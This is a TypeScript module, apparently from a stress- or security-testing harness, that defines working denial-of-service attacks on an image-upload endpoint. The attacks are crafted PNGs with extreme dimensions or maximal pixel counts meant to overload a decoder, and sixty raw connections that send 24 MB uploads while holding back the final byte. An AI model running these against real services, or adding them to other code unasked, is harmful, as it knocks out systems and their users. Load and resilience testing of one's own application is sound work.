import { crc32, deflateSync } from 'node:zlib';
import { FormData } from 'undici';
import type { Attack } from '../attack.ts';
import { atRate, head, rawConnection, sender, sendToAll } from './sending.ts';

const LONG = 60_000_000;

/** A PNG of one bit a pixel, all black: a few kilobytes for any size. */
function png(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const rows = Buffer.alloc(height * (1 + Math.ceil(width / 8)));
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const pixels = deflateSync(rows, { level: 9 });
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}

/** Uploads the files in turns, so many at once. */
const uploads = (files: () => Buffer[], atOnce: number): Attack => ({
  prepare: async () => files(),
  run({ origin, cookie, propertyId, prepared, signal, note }) {
    const send = sender(origin);
    return atRate(atOnce, { signal, note, most: atOnce }, (number) => {
      const file = prepared[number % prepared.length] ?? Buffer.alloc(0);
      const body = new FormData();
      body.set('propertyId', propertyId);
      body.set('file', new Blob([new Uint8Array(file)], { type: 'image/png' }), 'photo.png');
      return send('/api/property-images', { method: 'POST', headers: { cookie }, body });
    });
  },
});

/** Pictures with few pixels but an extreme side. */
export const longPictures = uploads(() => [png(LONG, 1), png(1, LONG)], 4);

/** Seven kilobytes each, and as many pixels as are allowed: seconds of work for a decoder. */
export const slowPictures = uploads(() => [png(7_700, 7_790)], 12);

const WITHHELD = 60;
const FILE_BYTES = 24 * 1024 * 1024;

/** Uploads that lack their last byte, for as long as the server waits for it. */
export const withheldUploads: Attack = {
  prepare: async () => [Buffer.alloc(FILE_BYTES, 0xff)],
  async run({ origin, cookie, propertyId, prepared, signal, note }) {
    const boundary = 'withheld';
    const part = (name: string, more: string) =>
      `--${boundary}\r\ncontent-disposition: form-data; name="${name}"${more}\r\n\r\n`;
    const front = `${part('propertyId', '')}${propertyId}\r\n${part('file', '; filename="photo.jpg"\r\ncontent-type: image/jpeg')}`;
    const back = `\r\n--${boundary}--\r\n`;
    const file = prepared[0] ?? Buffer.alloc(0);
    const start = head('POST /api/property-images', {
      cookie,
      'content-type': `multipart/form-data; boundary=${boundary}`,
      'content-length': front.length + file.length + back.length,
    });
    const sockets = Array.from({ length: WITHHELD }, () => rawConnection(origin, note));
    for (const socket of sockets) socket.write(start + front);
    await sendToAll(sockets, file, signal);
    for (const socket of sockets) if (socket.writable) socket.write(back.slice(0, -1));
  },
};
